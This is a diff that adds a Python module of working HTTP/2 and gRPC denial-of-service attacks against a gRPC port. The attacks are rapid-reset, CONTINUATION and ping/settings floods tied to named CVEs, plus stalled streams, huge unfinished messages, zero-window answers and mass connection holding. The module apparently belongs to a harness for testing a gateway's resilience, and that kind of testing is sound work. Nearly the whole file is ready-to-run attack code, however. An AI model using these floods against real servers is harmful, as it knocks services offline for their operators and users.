@@ -1,0 +1,183 @@
+"""Attacks on the gRPC port, in frames of their own making."""
+
+import struct
+import threading
+import time
+
+import wire
+from attacks_http import hold, in_parallel
+
+CALL = wire.call_headers("Generate")
+
+
+class Flood:
+    """A connection that only sends; what comes back is read by a thread and thrown away."""
+
+    def __init__(self, target, window=65535):
+        self.connection = wire.connect(target, 30)
+        self.connection.sendall(wire.PREFACE + wire.settings(initial_window_size=window))
+        threading.Thread(target=self.drain, daemon=True).start()
+        self.stream = -1
+
+    def drain(self):
+        try:
+            while self.connection.recv(1 << 16):
+                pass
+        except OSError:
+            pass
+
+    def next_stream(self):
+        self.stream += 2
+        if self.stream > 0x7FFF0000:
+            raise ConnectionError("no stream ids left")
+        return self.stream
+
+
+def rapid_reset(options, started):
+    """Calls that are reset as soon as they are begun (CVE-2023-44487), on four connections."""
+    def flood(_):
+        peer = Flood(options.grpc)
+        try:
+            while True:
+                burst = bytearray()
+                for _ in range(200):
+                    stream = peer.next_stream()
+                    burst += wire.frame(wire.HEADERS, wire.END_HEADERS, stream, CALL)
+                    burst += wire.frame(wire.RST_STREAM, 0, stream, struct.pack(">I", wire.CANCEL))
+                peer.connection.sendall(burst)
+                started()
+        finally:
+            peer.connection.close()
+    in_parallel(4, flood)
+
+
+def continuation(options, started):
+    """A header block that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316), on four connections."""
+    block = b"".join(wire.header(f"x-{i:04}", "y" * 100) for i in range(140))
+    pieces = wire.frame(wire.CONTINUATION, 0, 1, block) * 16
+
+    def flood(_):
+        peer = Flood(options.grpc)
+        try:
+            peer.connection.sendall(wire.frame(wire.HEADERS, 0, peer.next_stream(), CALL))
+            while True:
+                peer.connection.sendall(pieces)
+                started()
+        finally:
+            peer.connection.close()
+    in_parallel(4, flood)
+
+
+def large_headers(options, started):
+    """Calls with 64 KB of headers, in frames as they should be."""
+    block = CALL + b"".join(wire.header(f"x-{i:04}", "y" * 100) for i in range(580))
+
+    def flood(_):
+        peer = Flood(options.grpc)
+        try:
+            while True:
+                stream = peer.next_stream()
+                cuts = range(0, len(block), wire.MAX_FRAME)
+                for cut in cuts:
+                    last = wire.END_HEADERS if cut == cuts[-1] else 0
+                    kind = wire.HEADERS if cut == 0 else wire.CONTINUATION
+                    peer.connection.sendall(wire.frame(kind, last, stream, block[cut:cut + wire.MAX_FRAME]))
+                started()
+        finally:
+            peer.connection.close()
+    in_parallel(4, flood)
+
+
+def unfinished_streams(options, started):
+    """Calls of a method that begin and never send their request, a hundred thousand a connection, and 16 KB of each."""
+    part = b"\0" + struct.pack(">I", 1 << 20) + b"x" * 16000
+
+    def flood(_):
+        peer = Flood(options.grpc)
+        try:
+            for _ in range(100_000):
+                stream = peer.next_stream()
+                peer.connection.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, CALL) +
+                                        (wire.frame(wire.DATA, 0, stream, part) if stream < 8 else b""))
+                started()
+            time.sleep(600)
+        finally:
+            peer.connection.close()
+    in_parallel(8, flood)
+
+
+def unfinished_messages(options, started):
+    """Messages of 60 MB that come but for their last byte, on 32 connections."""
+    def flood(_):
+        peer = wire.GrpcConnection(options.grpc, 30)
+        try:
+            peer.send("Tokenize", b"\0" + struct.pack(">I", 60 << 20) + bytes((60 << 20) - 1), finish=False)
+            started()
+            time.sleep(600)
+        finally:
+            peer.close()
+    in_parallel(32, flood)
+    # Where windows or memory are bounded none gets to its last byte.
+    threading.Timer(2, started).start()
+
+
+def unread_answers(options, started):
+    """Hundreds of calls on a connection whose answers have no window, so that the gateway has to keep them."""
+    request = wire.message(wire.tokenize_request("a b" * 3000))
+
+    def flood(_):
+        peer = Flood(options.grpc, window=0)
+        try:
+            for _ in range(2000):
+                stream = peer.next_stream()
+                peer.connection.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, wire.call_headers("Tokenize")) +
+                                        wire.frame(wire.DATA, wire.END_STREAM, stream, request))
+                time.sleep(0.001)
+                started()
+            time.sleep(600)
+        finally:
+            peer.connection.close()
+    in_parallel(8, flood)
+
+
+def pings(options, started):
+    """PING and SETTINGS frames, all of which want an answer (CVE-2019-9512, CVE-2019-9515)."""
+    burst = (wire.frame(wire.PING, 0, 0, b"12345678") + wire.settings(initial_window_size=65535)) * 500
+
+    def flood(_):
+        peer = Flood(options.grpc)
+        try:
+            while True:
+                peer.connection.sendall(burst)
+                started()
+        finally:
+            peer.connection.close()
+    in_parallel(4, flood)
+
+
+def connections(options, started):
+    """1,100 connections to the gRPC port that have sent HTTP/2's preface."""
+    hold(options.grpc, wire.PREFACE + wire.settings(), 1100, started)
+
+
+def tokenize(options, started):
+    """Tokenize of 63 MB over gRPC."""
+    request = wire.message(wire.tokenize_request("a b" * (21 << 20)))
+
+    def ask(_):
+        peer = wire.GrpcConnection(options.grpc, 10)
+        try:
+            peer.send("Tokenize", request)
+            started()
+            peer.answer()
+        finally:
+            peer.close()
+    in_parallel(2, ask)
+    threading.Timer(2, started).start()
+
+
+ATTACKS = {
+    "rapid-reset": rapid_reset, "continuation": continuation, "large-headers": large_headers,
+    "unfinished-streams": unfinished_streams, "unfinished-messages": unfinished_messages,
+    "unread-answers": unread_answers, "pings": pings, "connections-grpc": connections, "tokenize-grpc": tokenize,
+}
